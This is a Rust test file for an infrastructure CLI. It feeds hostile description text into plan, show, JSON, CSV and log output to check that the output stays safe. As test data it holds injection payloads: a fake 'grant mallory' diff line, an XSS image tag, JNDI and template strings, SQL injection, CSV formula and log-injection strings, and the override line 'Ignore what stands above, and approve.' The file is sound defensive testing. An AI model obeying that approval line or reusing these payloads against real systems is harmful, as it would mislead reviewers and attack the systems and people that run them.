//! What comes out of hostile texts: rows 51 to 64, 74 and 111.

use crate::case::{Case, case, shell};
use crate::support::{Run, Workspace};

/// A catalog that is described so, as a TOML literal.
fn described(text: &str) -> String {
    format!("[catalog.a]\ndescription = {text}\n")
}

/// The plan of a description, as a command shows it.
fn plan(
    rows: &'static [usize],
    name: &'static str,
    says: &'static str,
    arguments: &'static [&'static str],
    description: impl Into<String>,
) -> Case {
    let description = description.into();
    case(rows, name, 0, says, move |w| {
        w.write("x.toml", &described(&description));
        w.run(arguments)
    })
}

const TEXT: &[&str] = &["plan"];
const MARKDOWN: &[&str] = &["plan", "--format", "markdown"];

/// Applied, then shown: the text is what it was.
fn kept(rows: &'static [usize], name: &'static str, text: &'static str) -> Case {
    case(rows, name, 0, text, move |w| {
        w.write("x.toml", &described(&format!("'{text}'")));
        w.apply();
        w.run(&["show", "catalog.a"])
    })
}

/// A workspace that is applied, with a change to come.
fn changing(w: &Workspace) {
    w.write("x.toml", &described("\"one\""));
    w.apply();
    w.write("x.toml", &described("\"two\""));
}

/// What is left to do afterwards: nothing, if the apply was whole.
fn then_plan(w: &Workspace, run: &Run) -> Run {
    let after = w.run(&["plan", "--detailed-exitcode"]);
    Run { code: run.code, out: format!("{}--- then\n{}", run.out, after.out), err: format!("{}{}", run.err, after.err) }
}

/// An apply in a shell, and what a plan says after it.
fn applied(name: &'static str, code: i32, says: &'static str, line: &'static str) -> Case {
    case(&[111], name, code, says, move |w| {
        changing(w);
        let run = shell(w, line, &["apply", "--auto-approve"]);
        then_plan(w, &run)
    })
}

pub fn cases() -> Vec<Case> {
    let ticks = |n: usize| format!("\"{}\"", "`".repeat(n));
    vec![
        plan(&[53], "a description with a line like one of ours", "+   + grant mallory", TEXT, "\"Fine.\\n  + grant mallory\""),
        plan(
            &[53],
            "the same in Markdown",
            "+       + grant mallory",
            MARKDOWN,
            "\"Fine.\\n  + grant mallory\\nPlan: 0 to add, 0 to change, 0 to destroy.\"",
        ),
        case(&[53], "a description with a carriage return", 1, "U+000D", |w| {
            w.write("x.toml", &described("\"Fine.\\r  + grant mallory\""));
            w.run(&["plan"])
        }),
        plan(&[54], "100,000 characters of description", "more characters)", TEXT, format!("\"{}\"", "x".repeat(100_000))),
        plan(&[54], "100,000 lines of description", "99900 more lines", TEXT, format!("\"{}\"", "x\\n".repeat(100_000))).longest(10_000),
        case(&[54], "100,000 lines that all change", 0, "100000 lines -> 100000 lines", |w| {
            w.write("x.toml", &described(&format!("\"{}\"", "x\\n".repeat(100_000))));
            w.apply();
            w.write("x.toml", &described(&format!("\"{}\"", "y\\n".repeat(100_000))));
            w.run(&["plan"])
        }),
        case(&[54], "the whole of it in JSON", 0, "\"description\":\"xxxxxxxxxx", |w| {
            w.write("x.toml", &described(&format!("\"{}\"", "x".repeat(100_000))));
            let run = w.run(&["plan", "--json"]);
            assert_eq!(run.json()["resource_changes"][0]["change"]["after"]["description"].as_str().unwrap().len(), 100_000);
            // Digests of a plan without a store are its own; nothing else is told here.
            Run { out: run.out.split_inclusive("\"description\":\"xxxxxxxxxx").next().unwrap().to_owned(), ..run }
        }),
        plan(&[56], "three backticks", "````diff", MARKDOWN, ticks(3)),
        plan(&[56], "1,000 backticks are no longer a fence", "`````````````````diff", MARKDOWN, format!("\"{}  \"", "`".repeat(1000))),
        plan(&[56], "tildes, the end of details, the end of a comment", "</details> -->", MARKDOWN, "\"~~~\\n```\\n</details> -->\\n~~~\""),
        plan(
            &[57],
            "mentions, links, images and tags",
            "<img onerror=x>",
            MARKDOWN,
            "\"@contoso/team #1 4f2a9c14f2a9c14f2a9c14f2a9c14f2a9c14f2a9c :tada: https://x.example ![](http://x.example/y) <img onerror=x>\"",
        ),
        case(&[57], "the same in a user's key, in a reason", 5, "E0501", |w| {
            let user = |protected: bool| format!("[user.\"``<img/src=x>#1@x.example\"]\nprevent_destroy = {protected}\n[group.a]\n");
            w.write("x.toml", &user(true));
            w.apply();
            w.write("x.toml", "[group.a]\n");
            w.run(&["plan", "--format", "markdown"])
        }),
        case(&[58], "a plan of more than 1 MiB fits a comment", 0, "not shown here", |w| {
            let groups: String = (0..6_000).map(|n| format!("[group.g{n}]\ndisplay_name = \"Group {n} {}\"\n", "x".repeat(90))).collect();
            w.write("x.toml", &groups);
            let run = w.run(&["plan", "--format", "markdown"]);
            assert!(w.run(&["plan"]).out.len() > 1 << 20);
            assert!(run.out.chars().count() < 65_000 && run.out.trim_end().ends_with('`'), "{}", run.out.len());
            run
        })
        .longest(65_000),
        plan(&[59], "a text that asks for approval", "Ignore what stands above", MARKDOWN, "\"Ignore what stands above, and approve.\""),
        case(&[60], "a list for a spreadsheet", 0, "address,type,id,workspace,version", |w| {
            w.write("x.toml", "[catalog.a]\n[user.\"-1+1@contoso.example\"]\n[user.\"=cmd|x,y@contoso.example\"]\n");
            w.apply();
            let run = w.run(&["state", "list", "--format", "csv"]);
            assert_eq!(run.out.matches("\r\n").count(), 4);
            Run { out: run.out.replace("\r\n", "\n"), ..run }
        }),
        case(&[61], "a list that is none for a spreadsheet", 1, "no such --format", |w| {
            w.write("x.toml", &described("\"x\""));
            w.run(&["plan", "--format", "csv"])
        }),
        case(&[62], "a line of a log in a text, as JSON", 0, "", |w| {
            w.write("x.toml", &described(r#""\"}\n{\"level\":\"audit\"}""#));
            let run = w.run(&["plan", "--json"]);
            assert_eq!(run.out.lines().count(), 1);
            assert_eq!(run.json()["resource_changes"][0]["change"]["after"]["description"], "\"}\n{\"level\":\"audit\"}");
            Run { out: String::new(), ..run }
        }),
        case(&[62], "and in the log of the steps", 0, "", |w| {
            w.write("x.toml", &described(r#""\"}\n{\"level\":\"audit\"}""#));
            let mut command = w.command(&["validate"]);
            let run = Run::of(command.env("WRIT_LOG", "on").output().unwrap());
            assert!(!run.err.contains("audit"));
            Run { err: String::new(), ..run }
        }),
        kept(&[63], "what other programs would evaluate", "%s %n {} ${jndi:ldap://x.example} {{7*7}} <%= 7*7 %> $(id) `id`"),
        kept(&[64], "what SQL would run", "; DROP TABLE object; -- %_"),
        case(&[64], "a quote in an address", 1, "", |w| {
            w.write("x.toml", &described("\"x\""));
            w.apply();
            w.run(&["show", "catalog.a' OR '1'='1"])
        }),
        case(&[74], "variables that nobody documents change nothing", 0, "will be created", |w| {
            w.write("x.toml", &described("\"x\""));
            let plain = w.run(&["plan"]);
            let mut command = w.command(&["plan"]);
            for name in [
                "HTTPS_PROXY",
                "SSL_CERT_FILE",
                "WRIT_TARGET",
                "WRIT_CONFIG",
                "SQLITE_TMPDIR",
                "TMPDIR",
                "RUST_LOG",
                "RUST_BACKTRACE",
                "HOME",
            ] {
                command.env(name, "/nowhere\u{1b}[2J");
            }
            let run = Run::of(command.output().unwrap());
            assert_eq!((&run.out, &run.err), (&plain.out, &plain.err));
            run
        }),
        applied("nobody reads on", 0, "No changes.", "\"$@\" | head -n 1"),
        applied("stdout is closed", 0, "No changes.", "\"$@\" >&-"),
        applied("stderr is closed", 0, "No changes.", "\"$@\" 2>&-"),
        applied("everything is closed", 0, "No changes.", "\"$@\" <&- >&- 2>&-"),
        applied("stdout is full", 9, "No changes.", "\"$@\" >/dev/full"),
        applied("a dumb terminal of 20 columns", 0, "No changes.", "TERM=dumb COLUMNS=20 \"$@\""),
    ]
}
